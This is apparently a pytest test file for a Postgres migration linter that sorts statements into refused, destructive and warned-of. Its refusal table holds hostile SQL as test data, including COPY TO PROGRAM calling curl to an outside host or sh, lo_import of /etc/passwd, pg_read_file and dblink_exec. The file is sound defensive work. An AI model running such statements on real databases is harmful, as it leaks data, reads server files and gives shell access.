"""What is refused, what loses data, what is warned of: one statement a row."""

from __future__ import annotations

from pathlib import Path

import pytest

from medianest_operator.migrations.bundled import bundled_migrations
from medianest_operator.migrations.lint import squawk as lint_squawk
from medianest_operator.migrations.lint.lint import Severity, lint
from unit.linting import look


def rules(severity: Severity, *files: str) -> list[str]:
    return [finding.rule for finding in look(*files) if finding.severity is severity]


def in_do(statement: str) -> str:
    return f"DO $$ BEGIN {statement}; END $$"


REFUSED = {
    "SELECT 1;\nSELEC 2;": "syntax",
    "CREATE TABLE audit (system_user text)": "syntax",
    "ALTER SYSTEM SET work_mem = '1GB'": "alter-system",
    "CREATE DATABASE other": "other-database",
    "DROP DATABASE other": "other-database",
    "ALTER DATABASE medianest CONNECTION LIMIT 5": "other-database",
    "ALTER DATABASE medianest RENAME TO other": "other-database",
    "ALTER DATABASE medianest OWNER TO other": "other-database",
    "CREATE ROLE mallory": "role",
    "CREATE USER mallory": "role",
    "ALTER ROLE mallory LOGIN": "role",
    "ALTER ROLE mallory RENAME TO alice": "role",
    "DROP ROLE mallory": "role",
    "GRANT medianest TO mallory": "role",
    "REVOKE medianest FROM mallory": "role",
    "ALTER ROLE medianest_app SET work_mem = '1GB'": "role-setting",
    "GRANT CONNECT ON DATABASE medianest TO mallory": "database-grant",
    "REVOKE ALL ON DATABASE medianest FROM PUBLIC": "database-grant",
    "REASSIGN OWNED BY a TO b": "owned",
    "DROP OWNED BY a": "owned",
    "CREATE TABLESPACE fast LOCATION '/mnt'": "tablespace",
    "DROP TABLESPACE fast": "tablespace",
    "ALTER TABLESPACE fast RENAME TO faster": "tablespace",
    "CREATE TABLE x (id int) TABLESPACE fast": "tablespace",
    "CREATE TABLE x TABLESPACE fast AS SELECT 1": "tablespace",
    "CREATE INDEX i ON users (id) TABLESPACE fast": "tablespace",
    "ALTER TABLE users SET TABLESPACE fast": "tablespace",
    "ALTER TABLE ALL IN TABLESPACE fast SET TABLESPACE slow": "tablespace",
    "ALTER TABLE users ADD CONSTRAINT u UNIQUE (email) USING INDEX TABLESPACE fast": "tablespace",
    "COPY users TO '/tmp/users.csv'": "copy-file",
    "COPY users FROM '/tmp/users.csv'": "copy-file",
    "COPY users TO PROGRAM 'curl -T - example.org'": "copy-program",
    "COPY (SELECT 1) TO PROGRAM 'sh'": "copy-program",
    "COPY users FROM STDIN": "copy-stdin",
    "LOAD 'auto_explain'": "load",
    "CREATE SUBSCRIPTION s CONNECTION 'host=a' PUBLICATION p": "subscription",
    "ALTER SUBSCRIPTION s DISABLE": "subscription",
    "ALTER SUBSCRIPTION s RENAME TO t": "subscription",
    "DROP SUBSCRIPTION s": "subscription",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw": "foreign-server",
    "CREATE FOREIGN TABLE f (id int) SERVER s": "foreign-server",
    "CREATE USER MAPPING FOR PUBLIC SERVER s": "foreign-server",
    "IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b": "foreign-server",
    "DROP SERVER s": "foreign-server",
    "PREPARE TRANSACTION 'x'": "two-phase",
    "COMMIT PREPARED 'x'": "two-phase",
    "ROLLBACK PREPARED 'x'": "two-phase",
    "SET SESSION AUTHORIZATION postgres": "session-authorization",
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'x', 'y'": "untrusted-language",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'": "untrusted-language",
    "DO LANGUAGE plperlu $$ system('true') $$": "untrusted-language",
    "CREATE EXTENSION dblink": "outside-extension",
    "CREATE EXTENSION IF NOT EXISTS plpython3u": "outside-extension",
    "SELECT lo_import('/etc/passwd')": "server-file",
    "SELECT lo_export(1, '/tmp/x')": "server-file",
    "SELECT pg_catalog.pg_read_file('x')": "server-file",
    "INSERT INTO users (id) SELECT * FROM pg_ls_dir('.')": "server-file",
    "CREATE TABLE x (a text DEFAULT pg_read_file('x'))": "server-file",
    "CREATE VIEW v AS SELECT pg_read_binary_file('x')": "server-file",
    "WITH a AS (SELECT pg_file_write('x', 'y', true)) SELECT * FROM a": "server-file",
    "SELECT * FROM dblink('host=a', 'DROP TABLE x') AS t (x int)": "other-server",
    "SELECT dblink_exec('DROP TABLE x')": "other-server",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity": "other-session",
    "SELECT pg_cancel_backend(1)": "other-session",
    "SELECT pg_reload_conf()": "server-function",
    "SELECT pg_switch_wal()": "server-function",
    "SELECT pg_promote()": "server-function",
    "SELECT pg_create_physical_replication_slot('x')": "replication-slot",
    "SELECT pg_create_logical_replication_slot('x', 'pgoutput')": "replication-slot",
    "SELECT pg_advisory_unlock_all()": "advisory-unlock",
    "SELECT pg_advisory_unlock(72707369)": "advisory-unlock",
    "SELECT pg_advisory_unlock(key) FROM keys": "advisory-unlock",
    "DISCARD ALL": "discard-all",
    "COMMENT ON DATABASE medianest IS 'x'": "shared-comment",
    "COMMENT ON ROLE medianest IS 'x'": "shared-comment",
    "GRANT SET ON PARAMETER work_mem TO x": "parameter-grant",
    "DELETE FROM medianest_operator.journal": "journal",
    "DROP SCHEMA medianest_operator CASCADE": "journal",
    "CREATE SCHEMA medianest_operator": "journal",
    "ALTER SCHEMA medianest_operator RENAME TO x": "journal",
    "ALTER TABLE users SET SCHEMA medianest_operator": "journal",
    "SELECT medianest_operator.finish()": "journal",
    "SET search_path TO medianest_operator, public": "journal",
    "GRANT ALL ON ALL TABLES IN SCHEMA medianest_operator TO PUBLIC": "journal",
    "SELECT set_config('search_path', 'medianest_operator', true)": "journal",
    "DELETE FROM _prisma_migrations": "history",
    "UPDATE public._prisma_migrations SET checksum = ''": "history",
    "DROP TABLE users, _prisma_migrations": "history",
    "CREATE INDEX ON _prisma_migrations (checksum)": "history",
    "ALTER TABLE users RENAME TO _prisma_migrations": "history",
    "COMMENT ON TABLE _prisma_migrations IS 'x'": "history",
    "DROP SCHEMA public CASCADE": "schema-public",
    "ALTER SCHEMA public RENAME TO old": "schema-public",
    # In bodies.
    in_do("ALTER SYSTEM SET work_mem = '1GB'"): "alter-system",
    in_do("PERFORM pg_reload_conf()"): "server-function",
    in_do("IF pg_switch_wal() IS NULL THEN NULL; END IF"): "server-function",
    in_do("EXECUTE 'CREATE ROLE mallory'"): "role",
    "DO $$ DECLARE n text := pg_read_file('x'); BEGIN END $$": "server-file",
    "DO $$ DECLARE n text; BEGIN n := pg_read_file('x'); END $$": "server-file",
    "DO $$ DECLARE r record; BEGIN FOR r IN SELECT pg_ls_dir('.') LOOP NULL; END LOOP; END $$": "server-file",
    "DO $$ BEGIN NULL; EXCEPTION WHEN others THEN DROP ROLE x; END $$": "role",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM dblink_exec('x'); END $$": "other-server",
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('x') $$": "server-file",
    "CREATE FUNCTION f() RETURNS text RETURN pg_read_file('x')": "server-file",
    "CREATE PROCEDURE p() BEGIN ATOMIC SELECT pg_reload_conf(); END": "server-function",
    # psql's own commands.
    "\\connect other": "psql-command",
    "SELECT 1;\n\\copy users FROM 'users.csv'\n": "psql-command",
    "\\set ON_ERROR_STOP on\nSELECT 1;": "psql-command",
}


@pytest.mark.parametrize("sql", REFUSED)
def test_what_reaches_outside_is_refused(sql: str) -> None:
    assert rules(Severity.REFUSED, sql) == [REFUSED[sql]]


ALLOWED = [
    "ALTER DATABASE medianest SET work_mem = '64MB'",
    "ALTER ROLE medianest_app IN DATABASE medianest SET work_mem = '64MB'",
    "GRANT SELECT ON ALL TABLES IN SCHEMA public TO medianest_app",
    "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO medianest_app",
    "SET ROLE medianest",
    "RESET SESSION AUTHORIZATION",
    "DISCARD TEMP",
    "COPY users TO STDOUT",
    "SELECT 'pg_reload_conf()', 'medianest_operator', '_prisma_migrations'",
    "-- ALTER SYSTEM SET x = 1\nSELECT 1 /* \\connect */",
    "SELECT pg_advisory_lock(5), pg_advisory_unlock(5)",
    "CREATE TABLE other._prisma_migrations (id int)",
    "CREATE EXTENSION citext",
    "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.age := 1; RETURN NEW; END $$",
    "COMMENT ON TABLE users IS 'drop database'",
    "SAVEPOINT a; RELEASE a",
    "",
]


@pytest.mark.parametrize("sql", ALLOWED)
def test_what_stays_inside_is_not(sql: str) -> None:
    assert rules(Severity.REFUSED, sql) == []
    assert rules(Severity.DESTRUCTIVE, sql) == []


DESTRUCTIVE = {
    "ALTER TABLE users DROP COLUMN avatar": "drops column avatar of users: 12,431 rows (8.1 MB) lose it.",
    "ALTER TABLE ONLY public.users DROP COLUMN IF EXISTS avatar CASCADE": "drops column avatar of users: 12,431 rows"
    " (8.1 MB) lose it.",
    "DROP TABLE users": "drops table users: 12,431 rows (8.1 MB) are lost.",
    "DROP TABLE IF EXISTS new_one, accounts": "drops table accounts: 1 row (16 kB) are lost.",
    'DROP TABLE "Büro"': 'drops table "Büro": 3 rows (8 kB) are lost.',
    'ALTER TABLE "Büro" DROP COLUMN "Straße"': 'drops column Straße of "Büro": 3 rows (8 kB) lose it.',
    "DROP MATERIALIZED VIEW accounts": "drops materialized view accounts: 1 row (16 kB) are lost.",
    "DROP SCHEMA audit CASCADE": "its tables: audit.events with 2,000,000 rows (3.0 GB) are lost.",
    "DROP SEQUENCE users_id_seq": "drops sequence users_id_seq: where it stood is lost",
    "DROP TYPE mood CASCADE": "drops type mood with CASCADE: every column of its kind",
    "DROP EXTENSION citext CASCADE": "drops extension citext with CASCADE",
    "ALTER TYPE address DROP ATTRIBUTE street": "drops attribute street of type address",
    "TRUNCATE users": "empties users: 12,431 rows (8.1 MB) are lost.",
    "TRUNCATE users RESTART IDENTITY CASCADE": "are lost, and every table that refers to it is emptied too.",
    "DELETE FROM users": "deletes from users without a condition: 12,431 rows (8.1 MB) are lost.",
    "DELETE FROM users WHERE true": "deletes from users without a condition",
    "WITH gone AS (DELETE FROM audit.events RETURNING 1) SELECT count(*) FROM gone": "deletes from audit.events",
    "ALTER TABLE users ALTER COLUMN age TYPE smallint": "changes the type of column age of users from integer to"
    " smallint: 12,431 rows (8.1 MB) are rewritten",
    "ALTER TABLE users ALTER role TYPE varchar(10)": "from character varying(20) to varchar(10)",
    "ALTER TABLE users ALTER paid TYPE numeric(8,1)": "from numeric(8,2) to numeric(8, 1)",
    "ALTER TABLE users ALTER paid TYPE numeric(8,3)": "may round or cut values",
    "ALTER TABLE users ALTER big TYPE double precision": "may round or cut values",
    "ALTER TABLE users ALTER seen TYPE date": "may round or cut values",
    "ALTER TABLE users ALTER seen TYPE timestamp(0)": "may round or cut values",
    "ALTER TABLE users ALTER age TYPE bigint USING 0": "its USING expression decides what is kept",
    "ALTER TABLE unknown_columns ALTER x TYPE bigint": "(the old type isn't known)",
    in_do("DELETE FROM users"): "in its body: deletes from users",
    in_do("EXECUTE 'DROP TABLE users'"): "in its body: drops table users",
    # A new name hides nothing.
    "ALTER TABLE users RENAME TO people; DROP TABLE people": "drops table users",
    "ALTER TABLE users RENAME avatar TO picture; ALTER TABLE users DROP picture": "drops column picture of users",
    "ALTER TABLE users SET SCHEMA audit; TRUNCATE audit.users": "empties users",
    "ALTER SCHEMA audit RENAME TO old; DROP TABLE old.events": "drops table audit.events",
    "SET search_path TO audit; DELETE FROM events": "deletes from audit.events",
    "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM users'; SELECT wipe()": "deletes from users",
}


@pytest.mark.parametrize("sql", DESTRUCTIVE)
def test_what_loses_data_says_how_much(sql: str) -> None:
    found = [finding for finding in look(sql) if finding.severity is Severity.DESTRUCTIVE]
    assert len(found) == 1
    assert DESTRUCTIVE[sql] in found[0].message


HARMLESS = [
    "DROP TABLE never_was",
    "CREATE TABLE t (id int, x int); ALTER TABLE t DROP COLUMN x; TRUNCATE t; DELETE FROM t; DROP TABLE t",
    "CREATE SEQUENCE s; DROP SEQUENCE s",
    "DROP TYPE mood",
    "DROP VIEW v",
    "DROP INDEX users_email_key",
    "DROP SCHEMA empty_one CASCADE",
    "DELETE FROM users WHERE age < 0",
    "DELETE FROM users USING accounts WHERE users.id = accounts.user_id",
    "UPDATE users SET age = 1",
    "ALTER TABLE users ADD COLUMN fresh int; ALTER TABLE users DROP COLUMN fresh",
    "ALTER TABLE users ALTER age TYPE bigint",
    "ALTER TABLE users ALTER age TYPE numeric",
    "ALTER TABLE users ALTER age TYPE numeric(10)",
    "ALTER TABLE users ALTER age TYPE text",
    "ALTER TABLE users ALTER role TYPE varchar(40)",
    "ALTER TABLE users ALTER role TYPE varchar",
    "ALTER TABLE users ALTER role TYPE text",
    "ALTER TABLE users ALTER paid TYPE numeric(12,3)",
    "ALTER TABLE users ALTER seen TYPE timestamp(6)",
    "ALTER TABLE users ALTER tags TYPE varchar[]",
    "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM users'",
]


@pytest.mark.parametrize("sql", HARMLESS)
def test_what_loses_nothing_is_not_destructive(sql: str) -> None:
    assert rules(Severity.DESTRUCTIVE, sql) == []


def test_a_loss_in_a_later_file_is_judged_by_the_files_before_it() -> None:
    assert rules(Severity.DESTRUCTIVE, "ALTER TABLE users RENAME TO people", "DROP TABLE people") == ["drop-table"]
    assert rules(Severity.DESTRUCTIVE, "CREATE TABLE notes (id int)", "DROP TABLE notes") == []


WARNINGS = {
    "CREATE INDEX i ON users (email)": (
        "require-concurrent-index-creation",
        "nobody can write to users, 12,431 rows (8.1 MB), while the index is built.",
    ),
    "DROP INDEX users_email_key": ("require-concurrent-index-deletion", "locks the index's table against everybody"),
    "ALTER TABLE accounts ADD FOREIGN KEY (u) REFERENCES users (id)": (
        "adding-foreign-key-constraint",
        "nobody can write to accounts, 1 row (16 kB), or to the table referred to",
    ),
    "ALTER TABLE users ADD CONSTRAINT u UNIQUE (email)": ("disallowed-unique-constraint", "while the index is built"),
    "ALTER TABLE users ADD CHECK (age > 0)": ("constraint-missing-not-valid", "while all rows are checked"),
    "ALTER TABLE users ALTER email SET NOT NULL": ("adding-not-nullable-field", "looked through for NULL"),
    "ALTER TABLE users ADD COLUMN x int NOT NULL": ("adding-required-field", "fails if users, 12,431 rows"),
    "ALTER TABLE users RENAME COLUMN email TO mail": ("renaming-column", "by its old name only"),
    "ALTER TABLE users RENAME TO people": ("renaming-table", "knows users, 12,431 rows (8.1 MB), by its old name"),
    "REINDEX TABLE users": ("require-concurrent-reindex", "while its indexes are rebuilt"),
    "VACUUM FULL users": ("vacuum-full", "nobody can read or write users, 12,431 rows (8.1 MB), while it is rewritten"),
    "CLUSTER users USING users_pkey": ("cluster", "nobody can read or write users"),
    "REFRESH MATERIALIZED VIEW accounts": ("refresh", "nobody can read accounts, 1 row (16 kB), while it is filled"),
    "LOCK TABLE users": ("lock-table", "nobody can read or write users, 12,431 rows (8.1 MB), until the migration"),
    "LOCK TABLE users IN SHARE MODE": ("lock-table", "nobody can write to users"),
    "UPDATE users SET age = 1": ("update-all", "writes every row of users, 12,431 rows (8.1 MB), again"),
    in_do("UPDATE users SET age = 1"): ("update-all", "in its body: writes every row of users"),
    "CREATE INDEX CONCURRENTLY i ON users (email)": (
        "not-transactional",
        "is rolled back by its inverse or by restoring",
    ),
    "SELECT 1; CREATE INDEX CONCURRENTLY i ON users (email)": ("not-transactional", "a migration of its own"),
    "VACUUM users": ("not-transactional", "can't run in a transaction"),
    "SELECT 1; COMMIT; SELECT 2": ("not-transactional", "takes the transaction into the file's own hands"),
    in_do("COMMIT"): ("not-transactional", "may commit from the inside"),
    "CALL p()": ("not-transactional", "may commit from the inside"),
    in_do("EXECUTE format('DROP TABLE %I', 'users')"): ("dynamic-sql", "puts SQL together and runs it with EXECUTE"),
    "DO LANGUAGE plperl $$ 1 $$; SELECT 1": ("unreadable-body", "it is written in plperl"),
    "SELECT setval('s', 5)": ("setval", "also when the migration is rolled back later"),
    "ALTER TABLE users SET UNLOGGED": ("unlogged", "emptied by a crash"),
}


@pytest.mark.parametrize("sql", WARNINGS)
def test_what_holds_up_others_is_warned_of(sql: str) -> None:
    rule, words = WARNINGS[sql]
    found = {finding.rule: finding for finding in look(sql) if finding.severity is Severity.WARNING}
    assert rule in found
    assert words in found[rule].message


def test_what_locks_nobody_for_long_is_not_warned_of() -> None:
    assert (
        look(
            "LOCK TABLE users IN ROW SHARE MODE",
            "UPDATE users SET age = 1 WHERE id = '1'",
            "REFRESH MATERIALIZED VIEW CONCURRENTLY accounts",
            "CREATE TABLE copy (age int); UPDATE copy SET age = 1",
            "ALTER TABLE users ADD COLUMN x int",
            "ALTER TABLE users ADD CONSTRAINT c CHECK (age > 0) NOT VALID",
        )
        == ()
    )


def test_a_file_with_its_own_transaction_is_told_once() -> None:
    assert rules(Severity.WARNING, "BEGIN; SELECT 1; COMMIT; BEGIN; SELECT 2; COMMIT") == ["not-transactional"]


def test_a_table_that_is_new_locks_nobody() -> None:
    made = "CREATE TABLE notes (id int PRIMARY KEY, user_id text REFERENCES users (id))"
    assert look(made, "CREATE INDEX i ON notes (id); ALTER TABLE notes ADD CHECK (id > 0)") == ()


def test_the_bundled_migrations_are_clean_on_an_empty_database() -> None:
    assert lint(bundled_migrations(), {}) == ()


def test_a_finding_says_where() -> None:
    sql = "SELECT 1;\n\n-- why\nALTER TABLE users\n  DROP COLUMN avatar;"
    (found,) = (finding for finding in look(sql) if finding.severity is Severity.DESTRUCTIVE)
    assert (found.statement, found.line, found.table, found.migration) == (2, 4, "users", "20260101000000_m")
    assert str(found).startswith("Statement 2 (line 4) of 20260101000000_m: drops column avatar of users: ")


def test_a_psql_command_is_named() -> None:
    (found,) = look("SELECT 1;\n\\connect other\n")
    assert (found.statement, found.line) == (2, 2)
    assert found.message.startswith("\\connect is a command of psql")


def test_findings_are_in_the_order_of_the_files() -> None:
    found = look("SELECT 1; TRUNCATE users", "DROP ROLE x; DELETE FROM accounts")
    assert [(item.migration[-3], item.statement, item.rule) for item in found] == [
        ("0", 2, "truncate"),
        ("1", 1, "role"),
        ("1", 2, "delete-all"),
    ]


def test_without_squawk_only_its_findings_are_missing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lint_squawk, "PROGRAM", "a-program-that-nobody-has")
    found = look("CREATE INDEX i ON users (email); DROP ROLE x")
    assert [item.rule for item in found] == ["no-squawk", "role"]
    assert "a-program-that-nobody-has is not installed" in str(found[0])


@pytest.mark.parametrize("answer", ["echo 'out of order'", "echo 'out of order' >&2; exit 3"])
def test_a_squawk_that_fails_is_reported_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: str) -> None:
    program = tmp_path / "broken-squawk"
    program.write_text(f"#!/bin/sh\n{answer}\n")
    program.chmod(0o755)
    monkeypatch.setattr(lint_squawk, "PROGRAM", program.name)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=":")
    (found,) = look("DROP VIEW a", "DROP VIEW b")
    assert (found.rule, found.statement) == ("no-squawk", 0)
    assert "and said: out of order, so its findings on locks are left out" in str(found)


def test_ten_megabytes() -> None:
    row = "INSERT INTO users (id, email) VALUES ('1', 'jürgen@büro.example');\n"
    (found,) = look("SELECT 1;\n" + row * (10_000_000 // len(row)) + "DROP ROLE x;")
    assert found.rule == "role"
    assert found.line == 10_000_000 // len(row) + 2
